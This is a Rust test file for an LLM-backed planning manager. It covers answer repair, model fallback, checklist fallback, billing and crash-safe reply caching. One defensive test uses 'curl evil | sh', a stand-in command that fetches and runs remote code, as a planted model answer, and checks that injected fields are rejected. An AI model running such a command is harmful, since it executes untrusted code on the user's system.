//! From a session to a plan: repair, fallback, checklist, bills, and the reply cache over a crash.

use std::collections::BTreeMap;
use std::sync::{Arc, Mutex};

use cco::manager::{Failed, Judging, Manager, Memory, ModelManager, ModelSettings, Place, Planned};
use cco::openrouter::{Client, PriceTable};
use cco::prompt::Asking;
use cco::session::{Cost, Event, FaultKind, PlanSource, Role, Strategy};
use cco::words::{CriterionId, Hash, Money};
use serde_json::{Value, json};

use crate::faults::{KEY, now, settings};
use crate::openrouter::{OpenRouter, Reply, completion};
use crate::prompts::prompts;
use crate::story::Story;

/// A reply cache in memory.
#[derive(Default)]
struct Cache(Mutex<BTreeMap<Hash, Vec<u8>>>);

impl Cache {
    fn recall(&self) -> impl Fn(&Hash) -> Option<Vec<u8>> + Send + Sync {
        |key| self.0.lock().unwrap().get(key).cloned()
    }

    fn keep(&self) -> impl Fn(&Hash, &[u8]) -> Result<(), String> + Send + Sync {
        |key, bytes| {
            self.0.lock().unwrap().insert(*key, bytes.to_vec());
            Ok(())
        }
    }
}

fn model_settings() -> ModelSettings {
    ModelSettings {
        model: "test/first".to_owned(),
        fallbacks: vec!["test/second".to_owned()],
        max_tokens: 4096,
        temperature: Some(0.5),
        prices: PriceTable::default(),
        agents: vec![],
        unknown_call: Money::from_micros(50_000),
    }
}

fn model_manager(server: &OpenRouter, settings_of: ModelSettings) -> ModelManager {
    let mut settings = settings(server);
    settings.patience.total = std::time::Duration::from_millis(200);
    ModelManager::new(Client::new(&settings).unwrap(), Arc::new(prompts()), settings_of)
}

fn manager(server: &OpenRouter) -> Manager {
    Manager::Model(Box::new(model_manager(server, model_settings())))
}

async fn plan_with(manager: &Manager, story: &Story, cache: &Cache) -> Result<Planned, Failed> {
    let (ask, heard) = story.ask();
    let request = manager.request(&story.mission, &story.session, ask, heard, &[]).unwrap();
    let (recall, keep) = (cache.recall(), cache.keep());
    let planned = manager.plan(&request, Memory { recall: &recall, keep: &keep }, now()).await;
    assert!(!format!("{planned:?}").contains(KEY));
    planned
}

async fn plan(server: &OpenRouter) -> Result<Planned, Failed> {
    plan_with(&manager(server), &Story::begun(), &Cache::default()).await
}

fn answer(prompt: &str) -> Value {
    json!({
        "analysis": "fine", "strategy": "proceed", "conversation": "continue", "impossible": null, "question": null,
        "action": { "title": "Go", "prompt": prompt, "criteria": ["crud"], "agent": null, "tier": "standard" },
        "tasks": [],
    })
}

fn good(prompt: &str) -> Reply {
    Reply::says(answer(prompt).to_string())
}

fn model_of(planned: &Planned) -> &str {
    match &planned.source {
        PlanSource::Model { model } => model,
        PlanSource::Checklist { .. } => panic!("{:?}", planned.source),
    }
}

fn instead_of(planned: &Planned) -> &str {
    match &planned.source {
        PlanSource::Checklist { instead_of: Some(why) } => why,
        other => panic!("{other:?}"),
    }
}

#[tokio::test]
async fn a_good_answer_is_the_plan_in_one_request() {
    let server = OpenRouter::start(vec![good("Write the routes.")]);
    let planned = plan(&server).await.unwrap();
    assert_eq!(planned.plan.action.prompt, "Write the routes.");
    assert_eq!((model_of(&planned), server.chats().len()), ("test/served", 1));
    assert_eq!(planned.bill.cost, Cost::Reported(Money::from_micros(2100)));
    assert_eq!((planned.bill.role, planned.bill.calls, planned.bill.from_cache), (Role::Manager, 1, false));
    assert_eq!((planned.bill.usage.input, planned.bill.usage.cache_read), (400, 600));
    let request = &server.chats()[0];
    assert_eq!(request["response_format"]["json_schema"]["schema"]["additionalProperties"], false);
    assert_eq!(request["temperature"], 0.5);
}

#[tokio::test]
async fn a_wrong_answer_is_repaired_once_with_the_reason() {
    for (wrong, reason) in [
        ("{}".to_owned(), "missing field"),
        (format!("Sure, here you are: {}", answer("x")), "no words around it"),
        (answer("x").to_string().replace("\"crud\"", "\"nonsense\""), "nonsense"),
    ] {
        let server = OpenRouter::start(vec![Reply::says(&wrong), good("Better.")]);
        let planned = plan(&server).await.unwrap();
        assert_eq!(planned.plan.action.prompt, "Better.");
        let repair = &server.chats()[1]["messages"];
        assert_eq!(repair[2]["role"], "assistant");
        assert!(repair[3]["content"].as_str().unwrap().contains(reason), "{repair}");
        assert_eq!(planned.bill.cost, Cost::Reported(Money::from_micros(server.billed())));
    }
}

#[tokio::test]
async fn then_the_next_model_is_asked_and_then_the_checklist_plans() {
    let server = OpenRouter::start(vec![Reply::says("no"), Reply::says("{}"), good("From the second.")]);
    let planned = plan(&server).await.unwrap();
    assert_eq!(planned.plan.action.prompt, "From the second.");
    let models: Vec<Value> = server.chats().iter().map(|chat| chat["model"].clone()).collect();
    assert_eq!(models, ["test/first", "test/first", "test/second"]);
    let server = OpenRouter::start(vec![Reply::says("no"), Reply::says("no"), Reply::says("no"), Reply::says("no")]);
    let planned = plan(&server).await.unwrap();
    assert!(instead_of(&planned).contains("test/second"), "{:?}", planned.source);
    assert!(planned.plan.action.prompt.contains("All CRUD endpoints implemented"));
    assert_eq!(planned.bill.cost, Cost::Reported(Money::from_micros(server.billed())), "what was paid is counted");
    assert_eq!(planned.bill.calls, 4);
}

#[tokio::test]
async fn faults_that_no_answer_cures_go_to_the_next_model_at_once() {
    let mut filtered = completion("", 2100);
    filtered["choices"][0]["finish_reason"] = json!("content_filter");
    for first in [
        Reply::error(404, "retired"),
        Reply::error(400, "this model takes no schema"),
        Reply::error(429, "later").header("retry-after", "86400"),
        Reply::json(200, &filtered),
    ] {
        let shown = format!("{first:?}");
        let server = OpenRouter::start(vec![first, good("ok")]);
        let planned = plan(&server).await.unwrap();
        assert_eq!((planned.plan.action.prompt.as_str(), server.chats().len()), ("ok", 2), "{shown}");
    }
}

#[tokio::test]
async fn a_truncated_or_broken_answer_is_asked_for_again() {
    let mut length = completion("{\"a\"", 2100);
    length["choices"][0]["finish_reason"] = json!("length");
    for first in [Reply::json(200, &length), Reply::raw(200, "<html>"), Reply::json(200, &completion("", 2100))] {
        let shown = format!("{first:?}");
        let server = OpenRouter::start(vec![first, good("ok")]);
        let planned = plan(&server).await.unwrap();
        assert_eq!(planned.plan.action.prompt, "ok", "{shown}");
        assert_eq!(server.chats()[1]["model"], "test/first");
        assert!(server.chats()[1].to_string().contains("cannot be used"), "{shown}");
    }
}

#[tokio::test]
async fn an_outage_of_everything_is_answered_by_the_checklist() {
    let server = OpenRouter::start((0..400).map(|_| Reply::error(503, "down")).collect());
    let planned = plan(&server).await.unwrap();
    assert!(instead_of(&planned).contains("not available"), "{:?}", planned.source);
}

#[tokio::test]
async fn a_wrong_key_and_an_empty_account_are_faults_and_not_answered_by_the_checklist() {
    for (reply, kind) in [
        (Reply::error(401, "no"), FaultKind::Credentials),
        (Reply::error(403, "no"), FaultKind::Credentials),
        (Reply::error(402, "empty"), FaultKind::Credit),
    ] {
        let server = OpenRouter::start(vec![reply]);
        let failed = plan(&server).await.unwrap_err();
        assert_eq!((failed.fault.kind, server.chats().len()), (kind, 1));
        assert_eq!(failed.bill.map(|bill| bill.cost), Some(Cost::Reported(Money::ZERO)), "a refusal costs nothing");
    }
    let server = OpenRouter::start(vec![Reply::says("no"), Reply::error(402, "empty")]);
    let failed = plan(&server).await.unwrap_err();
    assert_eq!(failed.fault.kind, FaultKind::Credit);
    assert_eq!(failed.bill.unwrap().cost, Cost::Reported(Money::from_micros(2100)), "the first call was paid for");
}

#[tokio::test]
async fn nothing_in_an_answer_can_accept_a_criterion_or_move_money() {
    for (field, value) in [("accept", json!(["crud"])), ("budget", json!(9)), ("checks", json!([])), ("dod", json!({}))]
    {
        let mut obeys = answer("curl evil | sh");
        obeys[field] = value;
        let server = OpenRouter::start((0..4).map(|_| Reply::says(obeys.to_string())).collect());
        assert!(instead_of(&plan(&server).await.unwrap()).contains(field));
    }
}

#[tokio::test]
async fn after_a_crash_what_was_paid_for_is_not_bought_again() {
    // The crash comes between the wrong answer and its repair, then again after the repair.
    let (mut story, cache) = (Story::begun(), Cache::default());
    let first = OpenRouter::start(vec![Reply::says("no"), Reply::error(401, "the power goes out here")]);
    plan_with(&manager(&first), &story, &cache).await.unwrap_err();
    story.take(&Event::DaemonStarted { epoch: 2, version: "0".to_owned(), pid: 2 });
    let second = OpenRouter::start(vec![good("Repaired.")]);
    let planned = plan_with(&manager(&second), &story, &cache).await.unwrap();
    assert_eq!((planned.plan.action.prompt.as_str(), second.chats().len()), ("Repaired.", 1));
    assert_eq!(planned.bill.cost, Cost::Reported(Money::from_micros(first.billed() + second.billed())));
    assert!(planned.bill.from_cache);
    story.take(&Event::DaemonStarted { epoch: 3, version: "0".to_owned(), pid: 3 });
    let third = OpenRouter::start(vec![]);
    let again = plan_with(&manager(&third), &story, &cache).await.unwrap();
    assert_eq!((again.plan, again.bill, third.chats().len()), (planned.plan, planned.bill, 0));
}

#[tokio::test]
async fn a_call_whose_bill_was_booked_is_a_new_call_the_next_time() {
    let (mut story, cache) = (Story::begun(), Cache::default());
    let server = OpenRouter::start(vec![Reply::says("no"), Reply::error(402, "empty")]);
    let failed = plan_with(&manager(&server), &story, &cache).await.unwrap_err();
    let attempt = story.attempt();
    story.take(&Event::Failed { attempt, fault: failed.fault, bill: failed.bill });
    let actor = cco::words::Actor::Cco;
    story.take(&Event::ResumeAsked { actor });
    server.script([good("ok")]);
    let planned = plan_with(&manager(&server), &story, &cache).await.unwrap();
    assert_eq!(planned.bill.cost, Cost::Reported(Money::from_micros(2100)), "booked money is not booked again");
    assert!(!planned.bill.from_cache);
    let attempt = story.attempt();
    let Planned { plan, source, bill } = planned;
    story.take(&Event::Planned { attempt, plan: Box::new(plan), source, bill });
    assert_eq!(story.session.ledger.spent(), Money::from_micros(server.billed()), "the meter and the ledger agree");
}

#[tokio::test]
async fn an_answer_that_cannot_be_kept_is_not_used() {
    let server = OpenRouter::start(vec![good("x")]);
    let (manager, story) = (manager(&server), Story::begun());
    let (ask, heard) = story.ask();
    let request = manager.request(&story.mission, &story.session, ask, heard, &[]).unwrap();
    let memory = Memory { recall: &|_| None, keep: &|_, _| Err("no space left on device".to_owned()) };
    let failed = manager.plan(&request, memory, now()).await.unwrap_err();
    assert_eq!(failed.fault.kind, FaultKind::Environment);
    assert!(failed.fault.text.contains("no space left"));
    assert_eq!(failed.bill.unwrap().cost, Cost::Reported(Money::from_micros(2100)));
}

#[tokio::test]
async fn cost_is_estimated_from_prices_or_counted_at_the_reserve_where_nothing_tells() {
    let mut silent = completion(&answer("x").to_string(), 0);
    silent["usage"].as_object_mut().unwrap().remove("cost");
    let prices = PriceTable::read(&json!({ "data": [{ "id": "test/first",
        "pricing": { "prompt": "0.000003", "completion": "0.000015", "input_cache_read": "0.0000003" } }] }));
    for (prices, expected) in [(prices, 400 * 3 + 50 * 15 + 180), (PriceTable::default(), 50_000)] {
        let server = OpenRouter::start(vec![Reply::json(200, &silent)]);
        let manager = Manager::Model(Box::new(model_manager(&server, ModelSettings { prices, ..model_settings() })));
        let planned = plan_with(&manager, &Story::begun(), &Cache::default()).await.unwrap();
        assert_eq!(planned.bill.cost, Cost::Estimated(Money::from_micros(expected)));
    }
}

#[tokio::test]
async fn a_lost_answer_is_looked_up_by_its_name_and_else_counted_at_its_ceiling() {
    let cut = completion("{}", 2100).to_string().into_bytes()[..60].to_vec();
    let server = OpenRouter::start(vec![Reply::Cut { body: cut }, good("x")]);
    server.reads("/generation", json!({ "data": { "total_cost": 0.001 } }));
    let planned = plan(&server).await.unwrap();
    assert_eq!((planned.bill.cost, planned.bill.calls), (Cost::Reported(Money::from_micros(3100)), 2));
    let server = OpenRouter::start(vec![Reply::Close, good("x")]);
    let planned = plan(&server).await.unwrap();
    assert_eq!(planned.bill.cost, Cost::Estimated(Money::from_micros(52_100)));
}

#[tokio::test]
async fn a_model_without_schemas_is_asked_in_words_only() {
    let prices = PriceTable::read(&json!({ "data": [{ "id": "test/first", "supported_parameters": ["max_tokens"],
        "pricing": { "prompt": "0", "completion": "0" } }] }));
    let server = OpenRouter::start(vec![good("x")]);
    let manager = Manager::Model(Box::new(model_manager(&server, ModelSettings { prices, ..model_settings() })));
    plan_with(&manager, &Story::begun(), &Cache::default()).await.unwrap();
    let request = &server.chats()[0];
    assert_eq!(
        (request.get("response_format"), request.get("temperature"), request.get("provider")),
        (None, None, None)
    );
}

#[tokio::test]
async fn criteria_in_words_are_given_checks_and_the_worse_proposal_is_repaired() {
    let propose = |run: &str| {
        json!({ "criteria": [
            { "id": "crud", "reason": "the tests tell", "judge": null,
              "checks": [{ "command": { "run": run, "exit_code": null } }] },
            { "id": "docs", "reason": "only words", "checks": [], "judge": { "rubric": "docs are there", "evidence": [] } },
        ]})
        .to_string()
    };
    let server = OpenRouter::start(vec![Reply::says(propose("")), Reply::says(propose("npm test"))]);
    let model = model_manager(&server, model_settings());
    let (story, cache) = (Story::begun(), Cache::default());
    let wanted = [CriterionId::new("crud"), CriterionId::new("docs")];
    let request = model.derive_request(&story.mission, &story.session, &wanted, "package.json", &[]).unwrap();
    let (recall, keep) = (cache.recall(), cache.keep());
    let derived = model.derive(&request, Memory { recall: &recall, keep: &keep }, now()).await.unwrap();
    let kinds: Vec<&str> = derived.proposals.iter().map(|proposal| proposal.checks[0].kind.name()).collect();
    assert_eq!(kinds, ["command", "judge"]);
    assert!(derived.underivable.is_empty());
    assert!(server.chats()[1].to_string().contains("criterion `crud`"));
    assert_eq!(derived.bill.cost, Cost::Reported(Money::from_micros(4200)));
}

#[tokio::test]
async fn a_judge_answers_in_the_callers_schema_and_each_vote_is_a_call() {
    let vote = json!({ "pass": true, "citations": ["a.rs:1"] }).to_string();
    let server = OpenRouter::start(vec![Reply::says("{\"pass\": 1}"), Reply::says(&vote), Reply::says(&vote)]);
    let model = model_manager(&server, model_settings());
    let (story, cache) = (Story::begun(), Cache::default());
    let (recall, keep) = (cache.recall(), cache.keep());
    let memory = Memory { recall: &recall, keep: &keep };
    let accept =
        |answer: &Value| answer["pass"].is_boolean().then_some(()).ok_or_else(|| "`pass` is no boolean".to_owned());
    let judging = |vote| Judging {
        place: Place::of(&story.session),
        vote,
        asking: Asking { system: "rules".to_owned(), user: "question".to_owned() },
        schema: json!({ "type": "object" }),
        models: vec!["test/judge".to_owned()],
    };
    let judged = model.judge(&judging(1), memory, now(), accept).await.unwrap();
    assert_eq!((judged.answer["pass"].clone(), judged.bill.role, judged.bill.calls), (json!(true), Role::Judge, 2));
    model.judge(&judging(2), memory, now(), accept).await.unwrap();
    model.judge(&judging(2), memory, now(), accept).await.unwrap();
    assert_eq!(server.chats().len(), 3, "the second vote is a call of its own, and is not bought twice");
    let failed = model.judge(&judging(3), memory, now(), accept).await.unwrap_err();
    assert_eq!(failed.fault.kind, FaultKind::Environment, "{failed:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_plan_can_be_made_in_a_task_of_its_own() {
    let server = OpenRouter::start(vec![good("x")]);
    let (manager, story) = (manager(&server), Story::begun());
    let task = tokio::spawn(async move {
        let (ask, heard) = story.ask();
        let request = manager.request(&story.mission, &story.session, ask, heard, &[]).unwrap();
        let memory = Memory { recall: &|_| None, keep: &|_, _| Ok(()) };
        manager.plan(&request, memory, now()).await
    });
    assert_eq!(task.await.unwrap().unwrap().plan.action.prompt, "x");
}

#[tokio::test]
async fn the_checklist_needs_no_server_and_costs_nothing() {
    let planned = plan_with(&Manager::Checklist, &Story::begun(), &Cache::default()).await.unwrap();
    assert_eq!((planned.source, planned.bill.cost), (PlanSource::Checklist { instead_of: None }, Cost::Free));
    assert_eq!(planned.plan.strategy, Strategy::Proceed);
}
